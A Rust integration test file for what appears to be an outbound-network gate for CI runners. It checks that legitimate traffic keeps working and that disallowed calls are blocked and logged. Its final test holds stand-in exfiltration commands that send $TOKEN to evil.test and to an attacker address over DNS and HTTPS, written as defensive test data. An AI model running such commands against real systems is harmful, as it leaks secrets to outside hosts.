//! What must go on working behind the gate, and what the gate must leave alone.

use anyhow::{Context, Result, ensure};
use portcullis_common::event::Verdict;
use portcullis_tests::attacker::{ATTACKER_V4, ATTACKER_V6};
use portcullis_tests::evidence::{Actor, Call, NO_RULE};
use portcullis_tests::gate::{Gate, policy, root_step, step};
use portcullis_tests::world::network::{RUNNER_V4, RUNNER_V6};
use portcullis_tests::world::{MonitorOptions, MonitorPlace, Process};
use portcullis_tests::{JobOutcome, World, wait_until};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{IpAddr, TcpStream};
use std::process::Stdio;
use std::time::{Duration, Instant};

#[test]
fn loopback_and_errors_of_the_network_work() -> Result<()> {
    let allowed = ["udp://198.51.100.60:4433", "udp://[2001:db8:1::60]:4433", "198.51.100.60:81"];
    let gate = Gate::up(&policy("block", &allowed))?;
    gate.world().add_address("2001:db8:1::60".parse()?)?;
    let mut job = gate.job();
    job.steps = vec![
        step("loopback", "python3 -S $ATTACKS/exchange.py loopback"),
        root_step("root", "python3 -S $ATTACKS/exchange.py loopback"),
        step("errors", "python3 -S $ATTACKS/exchange.py unreachable"),
        // "Failed to connect" is 7: the answer is there, no time-out (28).
        step(
            "refused",
            "code=0; curl -s --max-time 10 http://198.51.100.60:81/ || code=$?; test $code = 7",
        ),
    ];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    gate.assert_contained()
}

/// A link on the way that takes smaller packets than either end: the router's "too big" must get through, or the upload
/// hangs. The server is the attacker's, which this policy allows.
#[test]
fn the_path_mtu_is_found() -> Result<()> {
    let gate = Gate::up(&policy("block", &["203.0.113.66:443", "[2001:db8::66]:443"]))?;
    gate.world().internet().ip("link set attacker0 mtu 1300")?;
    let script = "head -c 300000 /dev/zero > large\n\
                  for address in 203.0.113.66 '[2001:db8::66]'; do\n\
                  curl -ksS --max-time 20 --data-binary @large https://$address/\ndone\n\
                  ip route get 203.0.113.66\nip route get 2001:db8::66\n";
    let mut job = gate.job();
    job.steps = vec![step("upload", script)];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    for address in [IpAddr::V4(ATTACKER_V4), IpAddr::V6(ATTACKER_V6)] {
        let complete = |stream: &portcullis_tests::attacker::Stream| {
            stream.peer.is_ipv4() == address.is_ipv4() && stream.received.len() > 300_000
        };
        ensure!(
            gate.world().attacker().streams().iter().any(complete),
            "{address} did not get it all"
        );
    }
    // The kernel has learned it from the router's messages.
    ensure!(result.log().matches("mtu 1300").count() == 2, "{}", result.log());
    Ok(())
}

#[test]
fn a_blocked_connection_fails_at_once() -> Result<()> {
    let gate = Gate::up(&policy("block", &[]))?;
    let mut job = gate.job();
    for address in ["203.0.113.66", "2001:db8::66"] {
        gate.release(&format!("tcp-{address}"))?;
        let command = format!("python3 -S $ATTACKS/transport.py tcp {address} 4444");
        job.steps.push(step(&format!("v{}", address.len()), &command));
    }
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    let log = result.log();
    let times: Vec<u64> = log
        .lines()
        .filter_map(|line| line.split_once(" after ")?.1.strip_suffix(" ms")?.parse().ok())
        .collect();
    // A program that is not refused waits for its own patience (5 s), others for minutes.
    ensure!(times.len() == 2 && times.iter().all(|time| *time < 2000), "{log}");
    gate.assert_contained()
}

#[test]
fn the_runners_long_poll_goes_on() -> Result<()> {
    let mut gate = Gate::without(World::builder())?;
    gate.raise(&policy("block", &["ok.test:443"]), MonitorOptions::default())?;
    let runner = gate.world().runner(0);
    runner.start()?;
    let github = gate.world().github();
    let before = github.long_poll_round_trip(runner.name())?;
    let mut job = gate.job();
    let script = "echo ready; until [ -e $RELEASE/go-on ]; do sleep 0.01; done";
    job.steps = vec![step("wait", script)];
    let running = gate.begin(&job)?;
    running.wait_for_line("ready")?;
    ensure!(github.long_poll_round_trip(runner.name())? == before, "the long poll was cut");
    gate.release("go-on")?;
    let result = running.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    ensure!(result.failed_uploads == 0, "{} uploads failed", result.failed_uploads);
    gate.monitor().wait_until_idle()?;
    ensure!(
        github.long_poll_round_trip(runner.name())? == before,
        "the long poll was cut at the end"
    );
    Ok(())
}

/// A conversation with the operator's server, as a person has it.
fn say(stream: &mut TcpStream, text: &str) -> Result<()> {
    stream.write_all(text.as_bytes())?;
    let mut buffer = vec![0; text.len()];
    stream.read_exact(&mut buffer).context("the operator's server does not answer")?;
    ensure!(buffer == text.as_bytes(), "another answer");
    Ok(())
}

fn operator(gate: &Gate, address: IpAddr) -> Result<TcpStream> {
    let connect = || TcpStream::connect_timeout(&(address, 2222).into(), Duration::from_secs(10));
    let stream = gate.world().internet().run(connect)??;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// The server, when it listens.
fn serve(gate: &Gate, cgroup: &portcullis_tests::cgroup::Cgroup) -> Result<Process> {
    let program = gate.world().directory().join("exchange.py");
    let mut server = gate
        .world()
        .command("python3")
        .args(["-S".as_ref(), program.as_os_str(), "echo-server".as_ref()])
        .cgroup(cgroup)
        .spawn(Stdio::null(), Stdio::piped(), Stdio::inherit())?;
    let output = server.child().stdout.take().context("no output")?;
    let mut line = String::new();
    BufReader::new(output).read_line(&mut line)?;
    ensure!(line.contains("listens"), "the operator's server did not start: {line}");
    Ok(server)
}

#[test]
fn the_operators_session_goes_on_and_a_new_one_begins() -> Result<()> {
    let mut gate = Gate::without(World::builder())?;
    let (unit, cgroup) = gate.world().create_unit("ssh")?;
    gate.world().write_configuration(&format!("[infrastructure]\nunits = [\"{unit}\"]\n"))?;
    let _server = serve(&gate, &cgroup)?;
    let mut session = operator(&gate, RUNNER_V4.into())?;
    say(&mut session, "before the job")?;
    gate.raise(&policy("block", &[]), MonitorOptions::default())?;
    let mut job = gate.job();
    job.steps = vec![step("wait", "echo ready; until [ -e $RELEASE/go-on ]; do sleep 0.01; done")];
    let running = gate.begin(&job)?;
    running.wait_for_line("ready")?;
    say(&mut session, "while it runs")?;
    for address in [IpAddr::V4(RUNNER_V4), IpAddr::V6(RUNNER_V6)] {
        let mut new = operator(&gate, address)?;
        say(&mut new, "a new one")?;
    }
    gate.release("go-on")?;
    let result = running.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    gate.monitor().wait_until_idle()?;
    say(&mut session, "after it")
}

/// The hostile twin: the same server, started by the job.
#[test]
fn the_same_server_of_a_job_is_not_reached_from_outside() -> Result<()> {
    let gate = Gate::up(&policy("block", &[]))?;
    let mut job = gate.job();
    let script = "python3 -S $ATTACKS/exchange.py echo-server &\nserver=$!\n\
                  until [ -e $RELEASE/go-on ]; do sleep 0.01; done\nkill $server\n";
    job.steps = vec![step("serve", script)];
    let running = gate.begin(&job)?;
    running.wait_for_line("echo-server: listens")?;
    let source: IpAddr = "192.0.2.1".parse()?;
    let connect = || {
        let start = Instant::now();
        let found =
            TcpStream::connect_timeout(&(RUNNER_V4, 2222).into(), Duration::from_millis(800));
        (found.is_ok(), start.elapsed())
    };
    let (connected, _) = gate.world().internet().run(connect)?;
    ensure!(!connected, "a server of the job was reached from outside");
    gate.wait_for_call(&Call::from(source, "tcp", Some(2222)).verdict(Verdict::Blocked))?;
    gate.release("go-on")?;
    let result = running.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    Ok(())
}

/// Tables as Docker, an administrator and iptables make them.
const OTHERS: &str = "
table ip filter {
    chain INPUT { type filter hook input priority filter; policy accept; tcp dport 9999 drop; }
    chain FORWARD { type filter hook forward priority filter; policy accept; }
    chain OUTPUT { type filter hook output priority filter; policy accept; ip daddr 198.51.100.18 drop; }
    chain DOCKER-USER { return; }
}
table ip nat {
    chain POSTROUTING { type nat hook postrouting priority srcnat; ip saddr 172.17.0.0/16 masquerade; }
}
table inet mine {
    set known { type ipv4_addr; flags interval; elements = { 10.0.0.0/8, 192.168.0.0/16 } }
    chain output { type filter hook output priority 200; policy accept; ip daddr @known accept; }
}";

#[test]
fn other_peoples_rules_are_left_alone() -> Result<()> {
    let gate = Gate::up(&policy("block", &["ok.test:443", "other.test:443"]))?;
    let network = gate.world().runner_network();
    network.tool("nft", &["-f", "-"], Some(OTHERS))?;
    let rules = || network.tool("nft", &["--handle", "list", "ruleset"], None);
    let before = rules()?;
    let mut job = gate.job();
    job.steps = vec![step(
        "wait",
        "curl -sS -4 https://ok.test/\ncurl -sS -4 --max-time 2 https://other.test/ || echo dropped by others\n\
         echo ready; until [ -e $RELEASE/go-on ]; do sleep 0.01; done",
    )];
    let running = gate.begin(&job)?;
    running.wait_for_line("ready")?;
    let during = rules()?;
    for table in before.split("\n}\n").filter(|table| !table.trim().is_empty()) {
        ensure!(during.contains(table), "changed while a job runs:\n{table}\n--- now\n{during}");
    }
    ensure!(during.contains("portcullis"), "the gate is not up:\n{during}");
    gate.release("go-on")?;
    let result = running.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    ensure!(
        result.log().contains("dropped by others"),
        "their rule is not in force:\n{}",
        result.log()
    );
    gate.monitor().wait_until_idle()?;
    wait_until("the rules to be as before", || rules().is_ok_and(|rules| rules == before))?;
    // What others drop is not recorded as allowed.
    let allowed = Call::to("198.51.100.18".parse()?, "tcp", Some(443)).verdict(Verdict::Allowed);
    ensure!(allowed.find(&gate.events()?).is_err(), "a dropped call is recorded as allowed");
    Ok(())
}

/// As in a pod: rules, resolver and records are those of the Worker's network namespace.
#[test]
fn a_worker_in_another_network_namespace_is_judged_there() -> Result<()> {
    let options = MonitorOptions { place: MonitorPlace::Machine, ..MonitorOptions::default() };
    let gate = Gate::build(World::builder(), &policy("block", &["ok.test:443"]), options)?;
    let mut job = gate.job();
    job.steps = vec![
        step("allowed", "curl -sS -4 https://ok.test/ && curl -sS -6 https://ok.test/"),
        step(
            "blocked",
            "dig +short $TOKEN.evil.test @203.0.113.66\n\
             curl -ksS --max-time 5 https://evil.test/$TOKEN || echo no such name\n\
             curl -ksS --max-time 5 https://203.0.113.66/$TOKEN || echo closed\n",
        ),
    ];
    let result = gate.begin(&job)?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}\n{}", result.log(), gate.monitor().log());
    ensure!(
        result.log().contains("no such name") && result.log().contains("closed"),
        "{}",
        result.log()
    );
    gate.assert_contained()?;
    let events = gate.final_events()?;
    Call::to(ATTACKER_V4.into(), "tcp", Some(443))
        .verdict(Verdict::Blocked)
        .rule(NO_RULE)
        .by(Actor::new("curl").step("blocked"))
        .find(&events)?;
    for address in ["198.51.100.10", "2001:db8:1::10"] {
        Call::to(address.parse()?, "tcp", Some(443))
            .verdict(Verdict::Allowed)
            .rule("ok.test:443")
            .name(Some("ok.test"))
            .by(Actor::new("curl").step("allowed"))
            .find(&events)?;
    }
    Ok(())
}
